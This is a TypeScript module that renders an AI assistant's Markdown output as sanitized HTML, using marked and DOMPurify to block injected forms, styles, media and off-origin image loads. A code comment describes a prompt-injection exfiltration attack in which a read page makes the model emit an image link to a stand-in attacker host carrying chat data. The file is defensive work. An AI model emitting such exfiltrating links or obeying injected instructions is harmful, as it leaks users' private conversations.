// The assistant's Markdown as safe HTML: marked renders it, code blocks are highlighted,
// DOMPurify removes anything a model (or a page it read) could inject, and links open in
// a new tab without giving it this window.
import { Marked } from 'marked'
import DOMPurify from 'dompurify'
import { highlight } from './highlight'

const marked = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    code({ text, lang }) {
      const language = (lang ?? '').split(/\s/)[0]
      return `<pre class="code"><code class="hljs">${highlight(text, language)}</code></pre>`
    },
  },
})

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A') {
    node.setAttribute('target', '_blank')
    node.setAttribute('rel', 'noopener noreferrer')
  }
  // Anything from elsewhere that would load by itself: a page the agent read could have
  // the model write `![](https://attacker/?data=…)` and learn what was in the chat. Only
  // this app's own images (and inline data) load; the others show their alt text.
  for (const name of ['src', 'href', 'xlink:href']) {
    const value = node.getAttribute(name)
    if (value !== null && node.tagName !== 'A' && !ownImage(value)) node.removeAttribute(name)
  }
})

function ownImage(src: string): boolean {
  try {
    const url = new URL(src, location.href)
    return url.origin === location.origin || url.protocol === 'data:'
  } catch {
    return false
  }
}

// No forms or styles a prompt-injected answer could dress up as this app's own UI, and
// nothing that loads from elsewhere through attributes not checked above.
const FORBID_TAGS = ['form', 'input', 'button', 'textarea', 'select', 'style', 'picture', 'source', 'video', 'audio', 'svg', 'math']

export function renderMarkdown(source: string): string {
  return DOMPurify.sanitize(marked.parse(source, { async: false }) as string, {
    FORBID_TAGS,
    FORBID_ATTR: ['style', 'srcset', 'poster', 'background'],
  })
}
